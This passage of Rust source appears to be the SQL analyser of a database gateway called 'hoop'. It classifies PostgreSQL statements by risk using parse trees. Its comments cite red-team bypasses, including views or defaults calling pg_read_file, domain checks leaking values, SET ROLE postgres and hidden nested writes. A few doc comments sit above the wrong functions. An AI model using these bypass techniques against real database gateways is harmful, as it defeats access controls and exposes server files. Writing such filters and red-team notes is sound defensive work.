/// a second on a parser thread. Commas, brackets and semicolons make no node of their own, and
/// ORMs send lists of thousands of values (SQLAlchemy inserts 1,000 rows a statement, and
/// writes each key of an `IN` list as `$n::INTEGER`; compatibility rounds 4 and 5), so they
/// count against [`MAX_ALL_TOKENS`] only.
pub const MAX_TOKENS: usize = 20_000;

/// Tokens analysed at most, punctuation included.
pub const MAX_ALL_TOKENS: usize = 40_000;

/// Whether `text` is within what hoop parses: length, no NUL, at most [`MAX_ALL_TOKENS`]
/// tokens, of which at most [`MAX_TOKENS`] are not punctuation.
pub(crate) fn parseable(text: &str) -> bool {
    // NUL bytes cannot reach the server inside a Query, and the C parser would stop at one.
    text.len() <= MAX_ANALYZED_LEN
        && !text.contains('\0')
        && !super::tokens::more_than(text, MAX_ALL_TOKENS)
        && pg_query::scan(text).is_ok_and(|s| s.tokens.len() <= MAX_ALL_TOKENS && s.tokens.iter().filter(|t| !punctuation(t.token)).count() <= MAX_TOKENS)
}

/// Whether a scanner token is a comma, bracket or semicolon (the scanner's token number for a
/// single character is its code).
fn punctuation(token: i32) -> bool {
    u8::try_from(token).is_ok_and(|c| matches!(c, b',' | b'(' | b')' | b'[' | b']' | b';'))
}

/// The analysis of `text` read with the lexing settings `options`.
fn read(text: &str, options: pg_query::ParserOptions) -> (Sql, bool) {
    let mut sql = Sql { text: text.to_string(), ..Sql::default() };
    let tree = parseable(text).then(|| pg_query::parse(text, options).ok()).flatten();
    let Some(tree) = tree else {
        sql.kinds = vec![unparsed_kind(text).to_string()];
        return (sql, true);
    };
    let mut w = Walk { all_writes_filtered: true, cacheable: true, ..Walk::default() };
    let mut any = false;
    for raw in &tree.protobuf.stmts {
        let Some(node) = raw.stmt.as_deref() else { continue };
        // The tree as JSON: one generic walk reaches every node at every depth, so no statement
        // type nests a read or a write where a hand-written visitor forgot to look.
        let Ok(mut v) = serde_json::to_value(node) else {
            sql.kinds = vec!["unknown".into()];
            return (sql, true);
        };
        super::versions::widen(&mut v);
        let Value::Object(v) = v else {
            sql.kinds = vec!["unknown".into()];
            return (sql, true);
        };
        any = true;
        w.top = true;
        // Whether a statement stores code is judged on that statement alone (red-team round
        // 103: `create table t(id int); select pg_sleep(1)` was refused as storing pg_sleep).
        let (kinds, functions, stores) = (std::mem::take(&mut w.kinds), std::mem::take(&mut w.functions), std::mem::take(&mut w.stores_expressions));
        w.object(&v, 0);
        let stored = w.stores_code();
        w.kinds = union(kinds, std::mem::take(&mut w.kinds));
        w.functions = union(functions, std::mem::take(&mut w.functions));
        w.stores_expressions |= stores;
        if stored {
            w.kind(STORED_CODE);
        }
    }
    if w.too_deep || w.pads_too_wide {
        sql.kinds = vec!["unknown".into()];
        return (sql, true);
    }
    sql.parsed = true;
    if !any {
        sql.kinds = vec!["empty".into()];
        return (sql, true);
    }
    sql.has_where = w.all_writes_filtered && (w.saw_write || w.outer_select_filtered.unwrap_or(false));
    let base = |t: &String| t.rsplit('.').next().unwrap_or(t).to_string();
    // Writing pg_settings is set_config by another name.
    if w.saw_write_kind() && w.tables.iter().any(|t| base(t) == "pg_settings") {
        w.kind(PINNED_SETTING);
    }
    // The cumulative statistics views count what every session did, and so what a statement's
    // values made the server do (a sort's spill in `pg_stat_database.temp_bytes` as large as a
    // masked value, found by the tenth red-team round); `pg_locks` shows every session's locks
    // (which relations a statement's values made it open, the eleventh).
    if w.tables.iter().any(|t| is_statistics_relation(&base(t)) || base(t) == "pg_locks") {
        w.kind(OTHER_SESSIONS);
    }
    // Column statistics hold sample values of every column the role may read.
    if w.tables.iter().any(|t| matches!(base(t).as_str(), "pg_stats" | "pg_stats_ext" | "pg_stats_ext_exprs" | "pg_statistic" | "pg_statistic_ext_data")) {
        w.kind(STATISTICS);
    }
    sql.kinds = w.kinds;
    sql.tables = w.tables;
    sql.written = w.written;
    sql.ctes = w.ctes;
    sql.functions = w.functions;
    sql.copy = w.copy;
    sql.copy_program = w.copy_program;
    (sql, w.cacheable)
}

/// The kind given to text the parser rejects: `do` for anonymous code blocks, else `unknown`.
fn unparsed_kind(text: &str) -> &'static str {
    let first = text
        .trim_start_matches(|c: char| c.is_whitespace() || c == '(')
        .split(|c: char| !c.is_ascii_alphabetic())
        .next()
        .unwrap_or("");
    if first.eq_ignore_ascii_case("do") { "do" } else { "unknown" }
}

/// Deepest nesting walked; the parser's own stack limit keeps real trees far below it.
const MAX_DEPTH: usize = 1000;

#[derive(Default)]
struct Walk {
    kinds: Vec<String>,
    tables: Vec<String>,
    written: Vec<String>,
    ctes: Vec<String>,
    functions: Vec<String>,
    all_writes_filtered: bool,
    saw_write: bool,
    /// The statement stores expressions that run later, as whoever then reads or writes the
    /// relation: a view's query, a column's default or generated value, a check, an index
    /// expression, a materialized view's query (run again at every refresh).
    stores_expressions: bool,
    outer_select_filtered: Option<bool>,
    copy: String,
    copy_program: bool,
    cacheable: bool,
    /// The next tagged node is a top-level statement.
    top: bool,
    too_deep: bool,
    /// A `char(N)` or `bit(N)` past what hoop weighs a column at (see `growth::MAX_PADDED`).
    pads_too_wide: bool,
}

/// `first` followed by those of `then` not in it, in their order.
fn union(mut first: Vec<String>, then: Vec<String>) -> Vec<String> {
    for x in then {
        if !first.contains(&x) {
            first.push(x);
        }
    }
    first
}

impl Walk {
    /// Whether the statement just walked stores code: DDL naming a function that writes
    /// elsewhere or runs SQL text, or an expression it stores (a view's query, a default, a
    /// check, an index) calling a function not known to only compute a value. What a statement
    /// stores runs later with the privileges of whoever runs it then (a superuser reading the
    /// agent's view; red-team round 24: views calling pg_create_physical_replication_slot and
    /// pg_read_file, a default calling pg_read_file, a check calling pg_promote).
    fn stores_code(&self) -> bool {
        let ddl = self.kinds.iter().any(|k| k.starts_with("create") || k.starts_with("alter") || matches!(k.as_str(), "index" | "define"));
        let sinks = self.functions.iter().any(|f| {
            let b = f.rsplit('.').next().unwrap_or(f);
            SINK_FUNCTIONS.contains(&b) || DYNAMIC_SQL_FUNCTIONS.contains(&b)
        });
        (ddl && sinks) || (self.stores_expressions && self.functions.iter().any(|f| !storable_function(f)))
    }

    fn saw_write_kind(&self) -> bool {
        self.kinds.iter().any(|k| matches!(k.as_str(), "insert" | "update" | "delete" | "merge" | "copy"))
    }

    fn kind(&mut self, k: &str) {
        if !self.kinds.iter().any(|x| x == k) {
            self.kinds.push(k.to_string());
        }
    }

    fn table(&mut self, name: String) {
        if !name.is_empty() && !self.tables.contains(&name) {
            self.tables.push(name);
        }
    }

    fn write_filtered(&mut self, filtered: bool) {
        self.saw_write = true;
        self.all_writes_filtered &= filtered;
    }

    fn value(&mut self, v: &Value, depth: usize) {
        match v {
            Value::Object(o) => self.object(o, depth),
            Value::Array(a) => {
                for x in a {
                    self.value(x, depth + 1);
                }
            }
            _ => {}
        }
    }

    fn object(&mut self, o: &Map<String, Value>, depth: usize) {
        if depth > MAX_DEPTH {
            self.too_deep = true;
            return;
        }
        // A type name, tagged or embedded (`TypeCast.type_name`, `ColumnDef.type_name`, a
        // domain's base type).
        if o.contains_key("typmods") && o.contains_key("names") && super::growth::pads_too_wide(&Value::Object(o.clone())) {
            self.pads_too_wide = true;
        }
        // A RangeVar, tagged as a node or embedded as a struct field (`InsertStmt.relation`).
        if let Some(parts) = range_var_parts(o) {
            if parts.iter().any(|p| p.contains('.')) {
                self.kind(DOTTED_NAME);
            }
            let name = parts.join(".");
            self.table(name.to_ascii_lowercase());
        }
        for (k, v) in o {
            if k.starts_with(|c: char| c.is_ascii_uppercase()) {
                if let Value::Object(node) = v {
                    let top = std::mem::take(&mut self.top);
                    self.node(k, node, top);
                }
            } else if let (Some(ty), Value::Object(node)) = (embedded(k), v) {
                self.node(ty, node, false);
            } else if k == "returning_clause" && v.get("exprs").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) {
                // Rows written are rows returned: a RETURNING is a read of what it names.
                self.kind("select");
            }
            self.value(v, depth + 1);
        }
    }

    /// One tagged parse node; `top` when it is a whole statement.
    fn node(&mut self, name: &str, o: &Map<String, Value>, top: bool) {
        let writes = match name {
            "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" => true,
            "CopyStmt" => o.get("is_from").and_then(Value::as_bool).unwrap_or(false),
            _ => false,
        };
        if writes && let Some(parts) = o.get("relation").and_then(Value::as_object).and_then(range_var_parts) {
            let name = parts.join(".").to_ascii_lowercase();
            if !self.written.contains(&name) {
                self.written.push(name);
            }
        }
        if created_names(name, o).iter().any(|n| BUILT_IN_TYPE_NAMES.contains(&n.as_str())) {
            self.kind(SHADOWING_NAME);
        }
        let non_empty = |k: &str| o.get(k).and_then(Value::as_array).is_some_and(|a| !a.is_empty());
        match name {
            "SelectStmt" => {
                if top || non_empty("from_clause") {
                    self.kind("select");
                }
                if top && self.outer_select_filtered.is_none() {
                    self.outer_select_filtered = Some(o.get("where_clause").is_some_and(filters));
                }
                if o.get("into_clause").is_some_and(|v| !v.is_null()) {
                    self.kind("select_into");
                }
                // `FOR UPDATE`/`FOR SHARE` with neither a filter nor a small literal limit locks
                // every row it reads, and other sessions' writes to them wait for this
                // transaction (`LIMIT ALL`, `LIMIT NULL` or a computed limit are no limit).
                let small_limit = o.get("limit_count").and_then(constant_text).and_then(|n| n.parse::<i64>().ok()).is_some_and(|n| (0..=MAX_LOCKED_ROWS).contains(&n));
                if non_empty("locking_clause") && !o.get("where_clause").is_some_and(filters) && !small_limit {
                    self.kind(OTHER_SESSIONS);
                }
            }
            "InsertStmt" => {
                self.kind("insert");
                let upsert = o.get("on_conflict_clause").and_then(|c| c.get("action")).and_then(Value::as_i64)
                    == Some(pg_query::protobuf::OnConflictAction::OnconflictUpdate as i64);
                if upsert {
                    // It updates one row per row it would insert: filtered as an UPDATE is, when
                    // those rows are literal or chosen by a WHERE, or its DO UPDATE has one
                    // (compatibility round 6: upserts from a staging table's filtered rows were
                    // refused as writes without a WHERE clause).
                    self.kind("update");
                    let source = o.get("select_stmt").and_then(|s| tagged(s, "SelectStmt"));
                    let literal_rows = source.is_some_and(literal_values);
                    let chosen = source.and_then(|s| s.get("where_clause")).is_some_and(filters);
                    let on_update = o.get("on_conflict_clause").and_then(|c| c.get("where_clause")).is_some_and(filters);
                    self.write_filtered(literal_rows || chosen || on_update);
                }
            }
            "UpdateStmt" | "DeleteStmt" => {
                self.kind(if name == "UpdateStmt" { "update" } else { "delete" });
                self.write_filtered(o.get("where_clause").is_some_and(filters));
                // `UPDATE … FROM t` and `DELETE … USING t` read t.
                if non_empty("from_clause") || non_empty("using_clause") {
                    self.kind("select");
                }
            }
            "CommonTableExpr" => {
                if let Some(name) = o.get("ctename").and_then(Value::as_str).map(str::to_ascii_lowercase)
                    && !self.ctes.contains(&name)
                {
                    self.ctes.push(name);
                }
                // A write inside a CTE reports no count of its own (the statement's tag is the
                // outer SELECT's): the rows it writes cannot be counted.
                if o.get("ctequery").is_some_and(writes_existing_rows) {
                    self.kind(NESTED_WRITE);
                }
            }
            "LockStmt" => {
                // SHARE UPDATE EXCLUSIVE (4) blocks other sessions' maintenance, SHARE (5) their
                // writes, and above their reads; ROW EXCLUSIVE (3) and below block none of those.
                if o.get("mode").and_then(Value::as_i64).unwrap_or(0) >= 4 {
                    self.kind(OTHER_SESSIONS);
                }
                if top {
                    self.kind("lock");
                }
            }
            "DefineStmt" => {
                if top {
                    self.kind("define");
                }
                // Aggregates and operators bind functions that run later.
                self.kind(STORED_CODE);
            }
            "MergeStmt" => {
                self.kind("merge");
                self.kind("select");
                // A MERGE's join decides which rows it touches: filtered when its source is
                // literal rows, or a subquery's rows chosen by a WHERE, joined on a condition
                // (as an upsert's rows are: compatibility round 8), or when the arm that
                // changes matched rows has a condition of its own.
                let literal_source = o
                    .get("source_relation")
                    .and_then(|r| tagged(r, "RangeSubselect"))
                    .and_then(|r| r.get("subquery"))
                    .and_then(|q| tagged(q, "SelectStmt"))
                    .is_some_and(|q| literal_values(q) || q.get("where_clause").is_some_and(filters))
                    && o.get("join_condition").is_some_and(filters);
                for w in o.get("merge_when_clauses").and_then(Value::as_array).into_iter().flatten() {
                    let clause = tagged(w, "MergeWhenClause");
                    let ty = clause.and_then(|c| c.get("command_type")).and_then(Value::as_i64);
                    let filtered = literal_source || clause.and_then(|c| c.get("condition")).is_some_and(filters);
                    use pg_query::protobuf::CmdType;
                    if ty == Some(CmdType::CmdUpdate as i64) {
                        self.kind("update");
                        self.write_filtered(filtered);
                    } else if ty == Some(CmdType::CmdDelete as i64) {
                        self.kind("delete");
                        self.write_filtered(filtered);
                    } else if ty == Some(CmdType::CmdInsert as i64) {
                        self.kind("insert");
                    }
                }
            }
            "CopyStmt" => {
                self.kind("copy");
                self.cacheable = false;
                let from = o.get("is_from").and_then(Value::as_bool).unwrap_or(false);
                self.copy = if from { "from".into() } else { "to".into() };
                if !from {
                    self.kind("select");
                }
                // `COPY (DELETE … RETURNING …) TO`: its tag counts the rows copied out, not
                // written (red-team round 71 committed 5,000 updated rows under a 1,000 ceiling).
                if o.get("query").is_some_and(writes_existing_rows) {
                    self.kind(NESTED_WRITE);
                }
                if o.get("is_program").and_then(Value::as_bool).unwrap_or(false) {
                    self.copy_program = true;
                } else if str_of(o, "filename").is_some_and(|f| !f.is_empty()) {
                    self.kind("copy_file");
                }
            }
            "DropStmt" => {
                self.kind("drop");
                use pg_query::protobuf::ObjectType as T;
                let ty = o.get("remove_type").and_then(Value::as_i64).unwrap_or(0);
                let relations = [T::ObjectTable, T::ObjectView, T::ObjectMatview, T::ObjectForeignTable];
                if relations.iter().any(|t| *t as i64 == ty) {
                    for obj in o.get("objects").and_then(Value::as_array).into_iter().flatten() {
                        let items = tagged(obj, "List").and_then(|l| l.get("items")).and_then(Value::as_array);
                        let parts: Vec<&str> = items.into_iter().flatten().filter_map(|i| tagged(i, "String")?.get("sval")?.as_str()).collect();
                        if parts.iter().any(|p| p.contains('.')) {
                            self.kind(DOTTED_NAME);
                        }
                        self.table(parts.join(".").to_ascii_lowercase());
                    }
                }
                if ty == T::ObjectFunction as i64 || ty == T::ObjectProcedure as i64 || ty == T::ObjectTrigger as i64 || ty == T::ObjectRule as i64 {
                    self.kind(STORED_CODE);
                }
            }
            "TruncateStmt" => self.kind("truncate"),
            "AlterTableStmt" => {
                self.kind("alter");
                self.stores_expressions = true;
                for cmd in o.get("cmds").and_then(Value::as_array).into_iter().flatten() {
                    let sub = tagged(cmd, "AlterTableCmd").and_then(|c| c.get("subtype")).and_then(Value::as_i64).unwrap_or(0);
                    let sub = pg_query::protobuf::AlterTableType::try_from(sub as i32).map(|t| t.as_str_name()).unwrap_or("");
                    // Changing a column's type rewrites every value (`USING 0` wipes it; a
                    // narrower numeric rounds it), unless it only widens to text; dropping a
                    // NOT NULL loses nothing (compatibility round 7: migrations widening a
                    // varchar were refused as destructive).
                    let retypes_to_text = sub == "AT_AlterColumnType" && tagged(cmd, "AlterTableCmd").and_then(|c| c.get("def")).is_some_and(widens_to_text);
                    if retypes_to_text {
                        self.kind(RETYPE_TEXT);
                    }
                    let harmless = sub == "AT_DropNotNull" || retypes_to_text;
                    if !harmless && (sub.starts_with("AT_Drop") || sub.starts_with("AT_DetachPartition") || sub == "AT_AlterColumnType") {
                        self.kind("alter_drop");
                    }
                    if sub.contains("Trig") || sub.contains("Rule") || sub.contains("RowSecurity") {
                        // Switching triggers, rules or row security off changes what runs on writes.
                        self.kind("alter_drop");
                    }
                    if sub == "AT_ChangeOwner" || sub.contains("RowSecurity") {
                        self.kind(PRIVILEGES);
                    }
                    if !REACH_KEEPING.contains(&sub) {
                        self.kind(REACH_CHANGE);
                    }
                }
            }
            "Constraint" => {
                // A foreign key whose action writes rows of its own (cascade, set null, set
                // default): the rows it changes are in no count.
                let acts = |k: &str| o.get(k).and_then(Value::as_str).is_some_and(|a| !matches!(a, "" | "a" | "r"));
                if acts("fk_del_action") || acts("fk_upd_action") {
                    self.kind(REACH_CHANGE);
                }
            }
            "RenameStmt" | "AlterObjectSchemaStmt" => {
                // (`rename`, `alter_object_schema`: they change relations.)
                if top {
                    self.kind(&snake_kind(name));
                }
                use pg_query::protobuf::ObjectType as T;
                let ty = o.get("rename_type").and_then(Value::as_i64);
                let keeps = name == "RenameStmt" && [T::ObjectColumn, T::ObjectTabconstraint, T::ObjectIndex].iter().any(|t| Some(*t as i64) == ty);
                if !keeps {
                    self.kind(REACH_CHANGE);
                }
            }
            "CreateStmt" | "CreateTableAsStmt" => {
                self.kind("create");
                // A partition or child of an existing table: writes to that table reach it.
                let attaches = o.get("inh_relations").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) || o.get("partbound").is_some_and(|b| !b.is_null());
                if attaches {
                    self.kind(REACH_CHANGE);
                }
                let matview = o.get("objtype").and_then(Value::as_i64) == Some(pg_query::protobuf::ObjectType::ObjectMatview as i64);
                self.stores_expressions |= name == "CreateStmt" || matview;
            }
            "ViewStmt" => {
                self.kind("create");
                self.kind("create_view");
                self.kind(REACH_CHANGE);
                self.stores_expressions = true;
            }
            "IndexStmt" | "CreateStatsStmt" | "CreateForeignTableStmt" => self.stores_expressions = true,
            "ExplainStmt" => {
                self.kind("explain");
                self.cacheable = false;
                let analyze = o.get("options").and_then(Value::as_array).into_iter().flatten().any(|d| {
                    let d = tagged(d, "DefElem");
                    d.and_then(|d| d.get("defname")).and_then(Value::as_str) == Some("analyze")
                        && !d.and_then(|d| d.get("arg")).is_some_and(is_false)
                });
                // `EXPLAIN ANALYZE EXECUTE p` runs what `p` holds, and its tag counts no row
                // of it (red-team Postgres round 124: a prepared UPDATE of 60,000 rows so).
                let runs_prepared = analyze && o.get("query").is_some_and(|q| tagged(q, "ExecuteStmt").is_some());
                if o.get("query").is_some_and(writes_existing_rows) || runs_prepared {
                    self.kind(NESTED_WRITE);
                }
                if analyze {
                    self.kind("explain_analyze");
                }
            }
            "PrepareStmt" => self.kind("prepare"),
            "ExecuteStmt" => self.kind("execute"),
            "CallStmt" => self.kind("call"),
            "TransactionStmt" => {
                use pg_query::protobuf::TransactionStmtKind as K;
                let k = K::try_from(o.get("kind").and_then(Value::as_i64).unwrap_or(0) as i32).unwrap_or(K::Undefined);
                self.kind(match k {
                    K::TransStmtBegin | K::TransStmtStart => "begin",
                    K::TransStmtCommit => "commit",
                    K::TransStmtRollback => "rollback",
                    K::TransStmtSavepoint => "savepoint",
                    K::TransStmtRelease => "release",
                    K::TransStmtRollbackTo => "rollback_to",
                    K::TransStmtPrepare => "prepare_transaction",
                    K::TransStmtCommitPrepared => "commit_prepared",
                    K::TransStmtRollbackPrepared => "rollback_prepared",
                    K::Undefined => "transaction",
                });
            }
            "VariableSetStmt" => {
                use pg_query::protobuf::VariableSetKind as K;
                self.cacheable = false;
                let k = K::try_from(o.get("kind").and_then(Value::as_i64).unwrap_or(0) as i32).unwrap_or(K::Undefined);
                self.kind(if matches!(k, K::VarReset | K::VarResetAll) { "reset" } else { "set" });
                // RESET ALL returns to the session's startup values, which hoop pinned.
                let var = str_of(o, "name").unwrap_or("").to_ascii_lowercase();
                let var = if var == "names" { "client_encoding".to_string() } else { var };
                // Setting one to the value hoop pinned (`SET client_encoding = 'UTF8'`, which
                // pg_dump -E sends) changes nothing.
                let value = o.get("args").and_then(Value::as_array).filter(|a| a.len() == 1).and_then(|a| a.first()).and_then(constant_text);
                let same = k == K::VarSetValue && value.is_some_and(|v| is_pinned_value(&var, &v));
                if k != K::VarResetAll && LEXING_SETTINGS.contains(&var.as_str()) && !same {
                    self.kind(PINNED_SETTING);
                }
                let values: Vec<String> = o.get("args").and_then(Value::as_array).into_iter().flatten().filter_map(constant_text).collect();
                if var == "search_path" && search_path_shadows_catalog(&values.join(",")) {
                    self.kind(SHADOWING_NAME);
                }
                // Taking another role's rights: hoop checked the login role's (PG red-team round
                // 116: `SET ROLE postgres` reached the server, which alone refused it).
                if k == K::VarSetValue && changes_role(&var, &values) {
                    self.kind(PRIVILEGES);
                }
            }
            "VariableShowStmt" => self.kind("show"),
            "DoStmt" => self.kind("do"),
            "CreateFunctionStmt" => {
                let procedure = o.get("is_procedure").and_then(Value::as_bool).unwrap_or(false);
                self.kind(if procedure { "create_procedure" } else { "create_function" });
                self.kind(STORED_CODE);
            }
            // A domain's CHECK runs on every value cast to it, in statements that name no
            // function: one calling anything but a pure function is code that runs later on
            // values the statement's lineage cannot see passed to it (red-team round 13:
            // `CHECK (lo_from_bytea(0, value::bytea) > 0)`, then `email::that_domain`).
            "CreateDomainStmt" | "AlterDomainStmt" => {
                if top {
                    self.kind(&snake_kind(name));
                }
                if super::lineage::runs_code(&Value::Object(o.clone())) {
                    self.kind(STORED_CODE);
                }
            }
            // A range type's `subtype_diff` or `canonical` names a function its operators run.
            "CreateRangeStmt" => {
                if top {
                    self.kind(&snake_kind(name));
                }
                let binds = o.get("params").and_then(Value::as_array).into_iter().flatten().filter_map(|p| tagged(p, "DefElem")).any(|d| {
                    d.get("defname").and_then(Value::as_str).is_some_and(|n| matches!(n.to_ascii_lowercase().as_str(), "subtype_diff" | "canonical"))
                });
                if binds {
                    self.kind(STORED_CODE);
                }
            }
            // A cast or a conversion binds a function to syntax that does not name it.
            "CreateCastStmt" | "CreateConversionStmt" => {
                if top {
                    self.kind(&snake_kind(name));
                }
                self.kind(STORED_CODE);
            }
            "CreateTrigStmt" | "RuleStmt" | "CreateEventTrigStmt" | "CreatePLangStmt" | "CreateExtensionStmt" | "AlterExtensionStmt"
            | "AlterExtensionContentsStmt" | "AlterFunctionStmt" | "LoadStmt" | "CreateTransformStmt" | "AlterEventTrigStmt" => {
                self.kind(match name {
                    "CreateTrigStmt" => "create_trigger",
                    "RuleStmt" => "create_rule",
                    "CreateEventTrigStmt" => "create_event_trigger",
                    "CreatePLangStmt" => "create_language",
                    "CreateExtensionStmt" => "create_extension",
                    "AlterFunctionStmt" => "alter_function",
                    "LoadStmt" => "load",
                    _ => "alter_code",
                });
                self.kind(STORED_CODE);
                self.kind(REACH_CHANGE);
            }
            "DeclareCursorStmt" => {
                // A cursor reads what its query reads, a FETCH at a time.
                self.kind("declare");
                self.kind("select");
            }
            "FetchStmt" => self.kind(if o.get("ismove").and_then(Value::as_bool).unwrap_or(false) { "move" } else { "fetch" }),
            "FuncCall" => self.function(o),
            "AlterRoleStmt" | "AlterRoleSetStmt" | "AlterDatabaseStmt" | "AlterDatabaseSetStmt" | "AlterSystemStmt" | "CreateRoleStmt"
            | "DropRoleStmt" | "GrantStmt" | "GrantRoleStmt" | "AlterDefaultPrivilegesStmt" | "ReassignOwnedStmt" | "DropOwnedStmt"
            | "AlterOwnerStmt" | "CreateUserMappingStmt" | "AlterUserMappingStmt" | "SecLabelStmt" | "CreatePolicyStmt" | "AlterPolicyStmt" => {
                if top {
                    let generic = snake_kind(name);
                    self.kind(&generic);
                }
                self.kind(PRIVILEGES);
            }
            _ if top => {
                let generic = snake_kind(name);
                self.kind(if generic.is_empty() { "unknown" } else { &generic });
            }
            _ => {}
        }
    }

    /// A function call: named in `functions`; `set_config` of a lexing setting (or of a name
    /// hoop cannot read) changes how the server reads the rest of the session.
    fn function(&mut self, o: &Map<String, Value>) {
        let parts: Vec<&str> =
            o.get("funcname").and_then(Value::as_array).into_iter().flatten().filter_map(|n| tagged(n, "String")?.get("sval")?.as_str()).collect();
        let name = parts.join(".").to_lowercase();
        if parts.last().is_some_and(|p| p.eq_ignore_ascii_case("set_config")) {
            self.cacheable = false;
            let args = o.get("args").and_then(Value::as_array);
            let name = args.and_then(|a| a.first()).and_then(constant_text).map(|n| n.trim().to_ascii_lowercase());
            let value = args.and_then(|a| a.get(1)).and_then(constant_text);
            let changes_lexing = match (&name, &value) {
                (Some(n), Some(v)) => LEXING_SETTINGS.contains(&n.as_str()) && !is_pinned_value(n, v),
                (Some(n), None) => LEXING_SETTINGS.contains(&n.as_str()),
                // A name computed at run time may be any setting, unless the value could not be
                // one of theirs (pg_dump's `set_config(name, 'view, foreign-table', false) FROM
                // pg_settings WHERE name = ...`).
                (None, Some(v)) => could_be_lexing_value(v),
                (None, None) => true,
            };
            if changes_lexing {
                self.kind(PINNED_SETTING);
            }
            // (A parameter's value is not known here: it may.)
            if name.as_ref().is_none_or(|n| n == "search_path") && value.as_ref().is_none_or(|v| search_path_shadows_catalog(v)) {
                self.kind(SHADOWING_NAME);
            }
            // (A computed name may be `role`, unless its value could not name one: pg_dump's
            // `set_config(name, 'view, foreign-table', false)`.)
            let role = match (&name, &value) {
                (Some(n), Some(v)) => changes_role(n, std::slice::from_ref(v)),
                (Some(n), None) => matches!(n.as_str(), "role" | "session_authorization"),
                (None, Some(v)) => !v.contains(',') && changes_role("role", std::slice::from_ref(v)),
                (None, None) => true,
            };
            if role {
                self.kind(PRIVILEGES);
            }
            // A value computed from the data is a channel out of the result (ParameterStatus,
            // SHOW, pg_stat_activity) that masking cannot follow. A bind parameter is the
            // client's own value, not the data's (compatibility round 4: asyncpg's
            // `set_config('jit', $1, false)` at connect was refused).
            if args.and_then(|a| a.get(1)).is_some_and(|v| !client_value(v)) {
                self.kind(COMPUTED_SETTING);
            }
        }
        if parts.last().is_some_and(|p| p.eq_ignore_ascii_case("pg_notify")) {
            // Constant arguments make one notification whatever the rows (the server folds
            // duplicates within a transaction); a computed one makes one per distinct value.
            let args = o.get("args").and_then(Value::as_array);
            if args.is_none_or(|a| a.iter().any(|v| !client_value(v))) {
                self.kind(COMPUTED_NOTIFY);
            }
        }
        if parts.last().is_some_and(|p| DYNAMIC_SQL_FUNCTIONS.iter().any(|f| p.eq_ignore_ascii_case(f))) {
            self.kind(DYNAMIC_SQL);
        }
        if parts.last().is_some_and(|p| WRITING_FUNCTIONS.iter().any(|f| p.eq_ignore_ascii_case(f))) {
            self.kind(FUNCTION_WRITE);
        }
        if parts.last().is_some_and(|p| OTHER_SESSION_FUNCTIONS.iter().any(|f| p.eq_ignore_ascii_case(f)) || is_statistics_function(p) || p.eq_ignore_ascii_case("pg_lock_status")) {
            self.kind(OTHER_SESSIONS);
        }
        if !name.is_empty() && !self.functions.contains(&name) {
            self.functions.push(name);
        }
    }
}

/// The node type of a field that holds a node's content without its tag (a struct field, not a
/// `Node`): these carry statements and calls as surely as tagged nodes do.
fn embedded(field: &str) -> Option<&'static str> {
    Some(match field {
        // SelectStmt.larg/rarg (set operations), PlAssignStmt.val.
        "larg" | "rarg" | "val" => "SelectStmt",
        // AlterRoleSetStmt, AlterDatabaseSetStmt, AlterSystemStmt.
        "setstmt" => "VariableSetStmt",
        // CallStmt.funccall.
        "funccall" => "FuncCall",
        _ => return None,
    })
}

/// The `variant` of a parse node, whether `v` is the node (`{"node": {variant: ..}}`) or its content.
/// Whether a statement node writes rows that already exist (an UPDATE, a DELETE, a MERGE, an
/// upsert): inside another statement (a CTE, EXPLAIN, COPY) its count is not the tag's, so
/// the written-rows ceiling cannot count it.
fn writes_existing_rows(node: &Value) -> bool {
    let Some((kind, body)) = node.get("node").and_then(Value::as_object).and_then(|m| m.iter().next()) else { return false };
    match kind.as_str() {
        "UpdateStmt" | "DeleteStmt" | "MergeStmt" => true,
        "InsertStmt" => {
            body.get("on_conflict_clause").and_then(|c| c.get("action")).and_then(Value::as_i64) == Some(pg_query::protobuf::OnConflictAction::OnconflictUpdate as i64)
        }
        _ => false,
    }
}

fn tagged<'a>(v: &'a Value, variant: &str) -> Option<&'a Value> {
    v.get("node").unwrap_or(v).get(variant)
}

/// A constant's text: a string, number or boolean literal, or a bare word (`SET x TO on`).
/// The parts of a relation's name (catalog, schema, relation, those given), if `o` is a
/// `RangeVar`.
fn range_var_parts(o: &Map<String, Value>) -> Option<Vec<&str>> {
    let Some(Value::String(rel)) = o.get("relname") else { return None };
    if !o.contains_key("inh") {
        return None;
    }
    Some(["catalogname", "schemaname"].iter().filter_map(|k| str_of(o, k)).filter(|s| !s.is_empty()).chain(std::iter::once(rel.as_str())).collect())
}

/// The names (lowercase, unqualified) a statement node gives to the relation or type it creates,
/// or to what it renames.
fn created_names(node: &str, o: &Map<String, Value>) -> Vec<String> {
    let rel = |v: Option<&Value>| v.and_then(Value::as_object).and_then(|r| r.get("relname")).and_then(Value::as_str).map(str::to_ascii_lowercase);
    let last = |k: &str| o.get(k).and_then(Value::as_array).and_then(|a| a.last()).and_then(|v| tagged(v, "String")?.get("sval")?.as_str()).map(str::to_ascii_lowercase);
    let into = |v: Option<&Value>| rel(v.and_then(|i| i.get("rel")));
    let name = match node {
        "CreateStmt" | "CreateSeqStmt" => rel(o.get("relation")).or_else(|| rel(o.get("sequence"))),
        "CreateForeignTableStmt" => rel(o.get("base").and_then(|b| b.get("relation"))),
        "ViewStmt" => rel(o.get("view")),
        "CreateTableAsStmt" => into(o.get("into")),
        "SelectStmt" => into(o.get("into_clause")),
        "CompositeTypeStmt" => rel(o.get("typevar")),
        "CreateEnumStmt" => last("type_name"),
        // A range type makes a second type, its multirange, named by an option (PG red-team
        // round 114: `multirange_type_name = pg_temp.text`).
        "CreateRangeStmt" => {
            let multirange = o.get("params").and_then(Value::as_array).into_iter().flatten().filter_map(|p| tagged(p, "DefElem")).find(|d| {
                d.get("defname").and_then(Value::as_str).is_some_and(|n| n.eq_ignore_ascii_case("multirange_type_name"))
            });
            let named = multirange.and_then(|d| d.get("arg")).and_then(|a| tagged(a, "TypeName")).and_then(|t| t.get("names")).and_then(Value::as_array).and_then(|a| a.last()).and_then(|v| tagged(v, "String")?.get("sval")?.as_str()).map(str::to_ascii_lowercase);
            return last("type_name").into_iter().chain(named).collect();
        }
        "CreateDomainStmt" => last("domainname"),
        "DefineStmt" => last("defnames"),
        "RenameStmt" => o.get("newname").and_then(Value::as_str).map(str::to_ascii_lowercase),
        _ => None,
    };
    name.into_iter().collect()
}

/// Whether `v` is a value the client gave, the same for every row: a literal, or a bind
/// parameter (cast or not).
